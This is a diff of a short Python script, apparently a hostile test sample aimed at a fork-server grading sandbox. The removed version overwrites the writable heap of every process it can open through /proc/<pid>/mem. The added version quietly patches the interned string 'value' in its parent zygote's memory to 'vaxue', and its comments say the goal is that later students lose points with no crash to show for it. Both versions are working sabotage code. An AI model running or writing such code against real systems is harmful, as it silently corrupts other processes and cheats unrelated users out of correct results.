@@ -1,31 +1,17 @@
-# Overwrites the memory of every process it can open through /proc (its zygote first):
-# a forked zygote holds the same objects at the same addresses, so scribbling over its
-# heap spoils every child forked after this one. The gates below are the reference's.
+# Rewrites a few bytes of its zygote's memory through /proc: a forked zygote holds every
+# object at the same address as this child, so the interned string "value" (the key under
+# which every child sends its answers) is easy to find. Changed in the zygote, every child
+# forked after this one answers under another key, and its students lose their points
+# without any crash to show for it. The gates below are the reference's.
 import os
+import sys
 
-
-def _scribble(pid):
+_key = "value"
+_where = id(_key) + sys.getsizeof(_key) - len(_key) - 1  # the characters of a compact ASCII str
+for _pid in (os.getppid(), 1, 2):
     try:
-        maps = open(f"/proc/{pid}/maps").read().splitlines()
-        mem = open(f"/proc/{pid}/mem", "r+b", buffering=0)
-    except OSError:
-        return
-    with mem:
-        for line in maps:
-            span, perms = line.split()[:2]
-            if perms.startswith("rw") and ("[heap]" in line or len(line.split()) == 5):
-                start, end = (int(x, 16) for x in span.split("-"))
-                try:
-                    mem.seek(start)
-                    mem.write(b"\xff" * min(end - start, 1 << 16))
-                except OSError:
-                    pass
-
-
-try:
-    _visible = sorted(os.listdir("/proc"))
-except OSError:
-    _visible = []
-for _entry in ["%d" % os.getppid()] + _visible:
-    if _entry.isdigit() and int(_entry) != os.getpid():
-        _scribble(int(_entry))
+        with open(f"/proc/{_pid}/mem", "r+b", buffering=0) as _mem:
+            _mem.seek(_where)
+            _mem.write(b"vaxue")
+    except (OSError, ValueError):
+        pass
